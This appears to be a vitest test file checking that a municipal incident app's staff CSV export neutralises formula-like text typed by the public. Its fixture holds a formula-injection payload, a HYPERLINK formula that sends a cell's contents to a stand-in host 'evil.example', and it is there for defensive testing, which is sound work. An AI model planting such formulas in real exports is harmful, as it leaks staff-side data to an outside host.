// The staff CSV export holds what the public typed: a description or address that starts like a
// spreadsheet formula must open as text in the staff member's spreadsheet, never run.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createStaffSession, type StaffSession } from './helpers/staff-session.ts';
import { startTestServer, type TestServer } from './helpers/test-server.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Voir la photo")';
const ADDRESS = '@SUM(1+1)';

describe('incidents CSV export and formulas', () => {
  let server: TestServer;
  let staff: StaffSession;
  let id: number;
  beforeAll(async () => {
    server = await startTestServer();
    staff = await createStaffSession(server);
    const { rows } = await server.db.query<{ id: number }>(
      `INSERT INTO incidents (service_code, description, address_string, status, geom)
       SELECT 'roads', $1, $2, 'new', ST_PointOnSurface(geom) FROM communes LIMIT 1 RETURNING id`, [FORMULA, ADDRESS]);
    id = rows[0]!.id;
  });
  afterAll(async () => server?.close());

  it('writes a reporter’s formula-like text as text, and coordinates as numbers', async () => {
    const res = await fetch(`${server.url}/api/incidents/export.csv`, { headers: { cookie: staff.cookie } });
    expect(res.status).toBe(200);
    const records = parse(await res.text(), { bom: true, columns: true }) as Record<string, string>[];
    const row = records.find((r) => r.id === String(id))!;
    expect(row.description).toBe(`'${FORMULA}`);
    expect(row.address_string).toBe(`'${ADDRESS}`);
    for (const r of records) {
      for (const [column, value] of Object.entries(r)) {
        if (column !== 'lon' && column !== 'lat') expect(value, column).not.toMatch(/^[=+\-@\t\r]/);
      }
      expect(Number.isFinite(Number(r.lon)), 'lon').toBe(true);
    }
  });
});
